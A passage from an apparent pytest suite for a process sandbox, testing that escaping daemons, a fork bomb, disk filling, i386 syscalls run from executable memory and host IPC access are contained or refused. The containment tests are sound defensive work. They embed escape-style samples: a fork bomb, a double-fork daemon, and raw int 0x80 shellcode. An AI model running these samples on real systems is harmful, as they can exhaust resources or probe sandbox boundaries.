        assert sleeper.wait(10) == -signal.SIGTERM
    world.close()


DAEMON = """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)
        print_to = os.open("pid", os.O_CREAT | os.O_WRONLY)
        os.write(print_to, b"%d\\n" % os.getpid()); os.close(print_to)
        while True: pass
    os._exit(0)
while not os.path.exists("pid") or not open("pid").read().endswith("\\n"): time.sleep(0.01)
print(open("pid").read())
"""


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return f.read().rpartition(b")")[2].split()[0] not in (b"Z", b"X")
    except OSError:
        return False


def dies(pid: int, seconds: float = 2.0) -> bool:
    until = time.monotonic() + seconds
    while alive(pid) and time.monotonic() < until:
        os.sched_yield()
    return not alive(pid)


@each_tier
def test_a_daemon_that_left_its_family_is_told_and_killed_at_the_end(tier: str, workspace: Path) -> None:
    with World(tier=tier, workspace=workspace, grace_seconds=0.1) as world:
        pid = int(python(world, DAEMON).stdout)
        assert alive(pid)
    survivors = [s["ns"] for s in events(world.close(), "survivor")]
    assert pid in survivors
    assert dies(pid)


@each_tier
def test_nothing_outlives_a_supervisor_that_is_killed(tier: str, workspace: Path) -> None:
    world = World(tier=tier, workspace=workspace).start()
    done = python(world, DAEMON)
    pid = int(done.stdout)
    shadow = world.run(["/bin/pwd"]).stdout.decode().strip()
    assert alive(pid)
    os.kill(world._supervisor_pid, signal.SIGKILL)
    assert dies(pid, 1.0)
    evidence = world.close()
    assert events(evidence, "command")
    assert not evidence.verify_chain().complete
    assert eventually_gone(shadow)


@each_tier
def test_a_fork_bomb_is_bounded(tier: str) -> None:
    script = "import os\ntry:\n    while True: os.fork()\nexcept OSError: pass\nimport time; time.sleep(60)"
    with World(tier=tier, limits=Limits(processes=40, wall_seconds=4), grace_seconds=0) as world:
        world.run([PYTHON, "-c", script], timeout=3)
    evidence = world.close()
    assert "processes" in {str(e["what"]) for e in events(evidence, "limit")}
    assert events(evidence, "end")


def test_a_full_disk_is_a_bound() -> None:
    script = "import os, time; open(os.environ['TMPDIR'] + '/x', 'wb').write(bytes(8 << 20)); time.sleep(30)"
    with World(tier="N", limits=Limits(disk_bytes=4 << 20, wall_seconds=20)) as world:
        world.run([PYTHON, "-c", script], timeout=15)
    assert "disk" in {str(e["what"]) for e in events(world.close(), "limit")}


@each_tier
def test_a_call_of_another_instruction_set_is_refused_and_recorded(tier: str) -> None:
    script = """
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7); page.write(b"\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3")  # getpid by int 0x80
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
"""
    native = subprocess.run([PYTHON, "-c", script], capture_output=True, text=True, check=False)
    if linux.ARCH != "x86_64" or native.returncode:
        pytest.skip("this kernel runs no i386 calls")
    with World(tier=tier) as world:
        done = python(world, script)
    refused = [e for e in events(world.close(), "escape") if e.get("abi") == "i386"]
    assert int(done.stdout) < 0
    assert refused
    assert {e["r"] for e in refused} == {"denied"}


@each_tier
def test_objects_of_the_host_without_a_name_are_out_of_reach(tier: str) -> None:
    script = """
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
print([libc.shmget(0, 4096, 0o1600), libc.shmat(0, 0, 0), libc.semget(0, 1, 0o1600), libc.msgget(0, 0o1600)])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: u.setsockopt(0, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", b"\\xe9\\xfc\\0\\1", bytes(4))); print("joined")
except OSError: print("not joined")
u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
"""
    with World(tier=tier) as world:
        done = python(world, script)
    world.close()
    assert done.stdout == b"[-1, -1, -1, -1]\nnot joined\n", done


def test_the_static_filter_is_one_the_kernel_takes() -> None:
    pid = os.fork()
    if pid == 0:
        try:
            linux.prctl(linux.PR_SET_NO_NEW_PRIVS, 1)
            linux.install_filter(static_filter(), listener=False)
            os.setpriority(os.PRIO_PROCESS, 0, os.getpriority(os.PRIO_PROCESS, 0))
            libc = ctypes.CDLL(None, use_errno=True)
            refused = libc.setpriority(0, os.getpid(), 0) < 0 and ctypes.get_errno() == errno.EPERM
            os._exit(0 if refused else 1)
        except BaseException:
            os._exit(2)
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


@each_tier
def test_ordinary_programs_run_unchanged(tier: str, workspace: Path) -> None:
    script = """
set -e
git init -q . 2>/dev/null
git -c user.name=a -c user.email=a@example.test commit -q --allow-empty -m x && git log --format=%s
printf 'a\\nb\\n' | sort -r | head -1
python3 - <<'X'
import asyncio, sqlite3, subprocess, tempfile, threading
c = sqlite3.connect("db"); c.execute("create table t(x)"); c.execute("insert into t values(7)"); c.commit()
print(c.execute("select x from t").fetchone()[0])
async def main():
    p = await asyncio.create_subprocess_exec("/bin/echo", "child", stdout=subprocess.PIPE)
    return (await p.communicate())[0]
print(asyncio.run(main()))
with tempfile.NamedTemporaryFile() as f: f.write(b"x"); f.flush(); print(open(f.name).read())
t = [threading.Thread(target=lambda: open("in.txt").read()) for _ in range(8)]
[x.start() for x in t]; [x.join() for x in t]; print("threads")
X
"""
    with World(tier=tier, workspace=workspace) as world:
        done = world.run(["/bin/bash", "-c", script], timeout=30)
    verdict = judge(world.close(), Contract(read=["**"], write=["**"], programs=["*"], minimum_tier=tier))
    assert done.stdout.decode().split("\n") == ["x", "b", "7", "b'child\\n'", "x", "threads", ""], done
    assert json.dumps([r.to_dict() for r in verdict.reasons]) == "[]"
